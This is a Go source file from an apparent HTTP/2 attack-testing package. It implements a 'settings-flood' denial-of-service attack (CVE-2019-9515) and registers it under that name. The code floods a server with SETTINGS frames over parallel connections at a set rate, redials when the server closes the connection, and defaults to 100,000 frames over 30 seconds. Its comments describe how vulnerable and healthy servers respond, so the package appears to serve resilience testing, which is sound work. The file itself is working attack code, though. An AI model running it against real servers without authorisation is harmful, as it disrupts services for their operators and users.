package h2attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// SettingsFloodParams: settings-flood (CVE-2019-9515) sends SETTINGS
// frames, each of which the server must apply and acknowledge. A server
// that queues the ACKs without bound, or does work per SETTINGS in
// proportion to its streams, is hurt. A healthy server acknowledges at the
// pace it can write, stops reading while ACKs are unsent, or closes the
// connection.
type SettingsFloodParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Settings is SETTINGS frames per connection. Default 100000.
	Settings int `yaml:"settings"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is frames per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 10000.
	Rate float64 `yaml:"-"`
}

// DefaultSettingsFlood returns settings-flood's defaults.
func DefaultSettingsFlood() SettingsFloodParams {
	return SettingsFloodParams{Connections: 1, Reconnect: true, Settings: 100_000, Duration: 30 * time.Second, Rate: 10_000}
}

func (p *SettingsFloodParams) limits() limits {
	return limits{connections: p.Connections, count: p.Settings, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *SettingsFloodParams) Validate() error {
	return p.limits().validate("settings-flood", "settings")
}

// SetRate implements Params.
func (p *SettingsFloodParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *SettingsFloodParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *SettingsFloodParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "settings-flood", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "settings-flood", lim: p.limits(),
		describe: "SETTINGS frames (INITIAL_WINDOW_SIZE 65535/65534 in turn), each owed an ACK",
		loop: func(ctx context.Context, c *conn) (string, error) {
			return c.pace(ctx, p.Settings, p.Rate, func(i int) error {
				s := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 - uint32(i%2)}
				return c.send(1, func(fr *http2.Framer) error { return fr.WriteSettings(s) })
			})
		}}, report)
}

func init() {
	register(Attack{Name: "settings-flood", Summary: "SETTINGS frames, each owed an ACK (CVE-2019-9515)",
		Params: func() Params { p := DefaultSettingsFlood(); return &p }})
}
